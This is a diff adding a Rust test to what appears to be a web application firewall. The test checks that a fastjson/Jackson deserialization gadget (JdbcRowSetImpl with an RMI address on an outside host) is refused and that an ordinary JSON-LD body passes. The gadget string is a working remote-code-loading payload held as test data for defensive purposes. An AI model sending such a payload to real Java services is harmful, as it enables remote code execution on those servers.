@@ -486,3 +486,26 @@ fn paranoia_level_two_looks_everywhere() {
     );
     assert!(strict_verdict.rate >= judge(&normal, "train").rate);
 }
+
+/// A JSON body that names a class to build (Jackson and fastjson type
+/// handling) is refused; an ordinary JSON-LD type is not.
+#[test]
+fn class_names_in_type_keys_are_refused() {
+    let waf = waf();
+    let gadget = r#"{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://198.51.100.3:1099/Exp","autoCommit":true}"#;
+    let finding = waf.inspect_body(
+        routes::Body::Inspected,
+        Some("application/json"),
+        gadget.as_bytes(),
+    );
+    assert_eq!(finding.map(|f| f.rule), Some("java-gadget-type"));
+    let json_ld = r#"{"@type":"Article","headline":"Hello"}"#;
+    assert_eq!(
+        waf.inspect_body(
+            routes::Body::Inspected,
+            Some("application/json"),
+            json_ld.as_bytes()
+        ),
+        None
+    );
+}
